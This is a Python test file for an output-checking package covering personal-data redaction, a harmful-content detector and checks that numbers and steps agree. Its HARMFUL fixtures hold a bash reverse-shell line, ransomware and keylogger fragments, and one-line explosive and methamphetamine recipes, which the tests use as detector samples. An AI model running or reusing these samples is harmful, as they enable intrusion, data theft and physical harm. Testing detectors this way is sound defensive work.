"""What a goal asks for, place-holders, harmful content, and results that agree with themselves."""

import pytest
from pydantic import JsonValue

from toolguild.outgoing import consistency, personal
from toolguild.outgoing.harmful import harms
from toolguild.outgoing.purpose import asked
from toolguild.outgoing.redaction import MANY, Redactor

MAIL = "omar.haddad@post.example"


@pytest.mark.parametrize(
    ("goal", "kinds"),
    [
        ("Extract all e-mail addresses", {"email"}),
        ("List the phone numbers and emails of each supplier", {"phone", "email"}),
        ("Total amount per customer", {"person"}),
        ("Who spent most?", {"person"}),
        ("Group the log by IP address", {"ip"}),
        ("Remove all phone numbers from the text", set()),
        ("Summarise the letters without names of customers or e-mails", set()),
        ("Total amount per category in customers.csv", set()),
        ("Return the name of the column with the largest mean", set()),
        ("Read the emails. Remove every e-mail from the answer.", set()),
        ("List the emails. Do not include phone numbers.", {"email"}),
    ],
)
def test_the_goal_decides_which_kinds_stay(goal: str, kinds: set[str]) -> None:
    assert asked([goal]) == kinds


def test_the_same_value_has_the_same_place_holder_everywhere_and_is_counted_each_time() -> None:
    redactor = Redactor(personal=personal.found)
    value = redactor.value([{"mail": MAIL}, f"{MAIL} and ana@other.example"], "answer")

    assert value == [{"mail": "[email 1]"}, "[email 1] and [email 2]"]
    assert redactor.counts == {"email": 3}
    assert redactor.text("[email 1] stays", "answer") == "[email 1] stays"


def test_long_lists_and_records_are_looked_through_like_short_ones() -> None:
    texts = [f"row {i}" for i in range(2 * MANY)] + [f"to {MAIL}."]
    rows: list[JsonValue] = []
    for number, text in enumerate(texts):
        rows.append({"note": text, "n": number})
    redactor = Redactor(personal=personal.found)

    assert redactor.value([*texts], "answer") == [*texts[:-1], "to [email 1]."]
    cleaned = redactor.value([*rows], "answer")
    assert isinstance(cleaned, list)
    assert cleaned[:-1] == rows[:-1]
    assert cleaned[-1] == {"note": "to [email 1].", "n": len(texts) - 1}


def test_numbers_are_personal_where_their_key_says_so() -> None:
    redactor = Redactor(personal=personal.found)

    assert redactor.value(
        {"phone": 4915112345678, "total": 4915112345678, "ok": True}, "answer"
    ) == {
        "phone": "[phone 1]",
        "total": 4915112345678,
        "ok": True,
    }


def test_two_keys_that_become_one_stay_two() -> None:
    redactor = Redactor(personal=personal.found, only_note=False)
    value = redactor.value({"[email 1]": 1, MAIL: 2}, "answer")

    assert value == {"[email 1]": 1, "[email 1]*": 2}


HARMFUL = {
    "reverse-shell": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "ransomware": "for root, d, f in os.walk(home):\n  Fernet(k).encrypt(x)\nprint('Your files are encrypted, "
    "send 0.5 bitcoin to this address')",
    "keylogger": "from pynput import keyboard\ndef send(): requests.post(url, data={'keys': buffer})",
    "explosive": "TATP: slowly add 50 ml of acetone to hydrogen peroxide and stir, then attach the fuse.",
    "drug": "Methamphetamine from pseudoephedrine: add 30 g red phosphorus and reflux for 12 hours.",
}
HARMLESS = [
    "Ransomware encrypts files and asks for bitcoin; keep backups and do not pay.",
    "rule keylogger { strings: $a = 'pynput' $b = 'requests.post keys' condition: all of them } // yara rule",
    "Our bank never asks you to verify your password by e-mail. Report phishing to the help desk.",
    "import os\nfor root, dirs, files in os.walk('.'):\n    print(root)",
    "from cryptography.fernet import Fernet\ntoken = Fernet(key).encrypt(b'x')",
    "Acetone and hydrogen peroxide are kept in separate cupboards (safety sheet 4).",
    "ANFO is an industrial explosive made of ammonium nitrate and fuel oil, used in mining.",
    "Add 50 g sugar, stir, and bake for 20 minutes.",
    "sock = socket.socket(); sock.connect((host, 80)); sock.sendall(b'GET / HTTP/1.0')",
]


@pytest.mark.parametrize("rule", HARMFUL)
def test_what_works_as_a_weapon_is_harmful(rule: str) -> None:
    assert rule in {one.rule for one in harms(HARMFUL[rule])}


@pytest.mark.parametrize("text", HARMLESS)
def test_speaking_of_it_or_using_the_same_calls_is_not(text: str) -> None:
    assert harms(text) == ()


def test_an_answer_that_breaks_the_promise_of_its_step_is_told() -> None:
    schema: dict[str, object] = {"type": "object", "properties": {"n": {"type": "integer"}}}

    assert consistency.against_schema({"n": 3}, schema) == ()  # type: ignore[arg-type]
    assert "at n is not as its step promised" in consistency.against_schema({"n": "x"}, schema)[0]  # type: ignore[arg-type]
    assert consistency.against_schema({}, {"type": "nonsense"}) == ()


def test_a_success_with_nothing_to_show_is_told() -> None:
    assert consistency.against_criteria("succeeded", [("a", None), ("b", True)], empty=False) == ()
    assert len(consistency.against_criteria("succeeded", [("a", False)], empty=True)) == 2
    assert consistency.against_criteria("failed", [("a", False)], empty=True) == ()


def test_two_steps_that_differ_on_the_same_name_are_told() -> None:
    one = {
        "a": {"median income": 12.5, "count": 3},
        "b": {"Median income": 12.50000001, "count": 4},
    }
    other = {"a": {"median income": 12.5}, "b": {"median income": 13}}

    assert consistency.between_steps(one) == ()  # type: ignore[arg-type]
    assert "differ on median income: 12.5 and 13" in consistency.between_steps(other)[0]  # type: ignore[arg-type]


DATA = [{"north": 120, "south": 230.456}, [{"x": 1, "spent": 10.0}, {"x": 2, "spent": 32.0}]]


@pytest.mark.parametrize(
    "text",
    [
        "The north sold 120 and the south 230.46 units.",
        "Both together sold about 350 units in the year.",
        "The south had a share of 65.8 % of all sales.",
        "The south sold 92 % more than the north did.",
        "In 2025 we saw 2 regions, and a top 100 list.",
        "People spent 42 in all, or 21.0 each on average.",
        "The goal named 777 as the limit, which holds here.",
        "See version 4.5.6 and the log of 12:30 on 2025-03-04.",
    ],
)
def test_numbers_that_follow_from_the_data_are_let_be(text: str) -> None:
    assert consistency.in_prose(text, DATA, "limit 777") == ()  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "text", ["The north sold 4812 units in all.", "The share of the south was 91.3 % of the sales."]
)
def test_a_number_that_nothing_supports_is_told(text: str) -> None:
    assert len(consistency.in_prose(text, DATA, "")) == 1  # type: ignore[arg-type]


def test_without_numbers_in_the_data_nothing_is_said() -> None:
    assert consistency.in_prose("It sold 4812 units in all of them.", ["x"], "") == ()
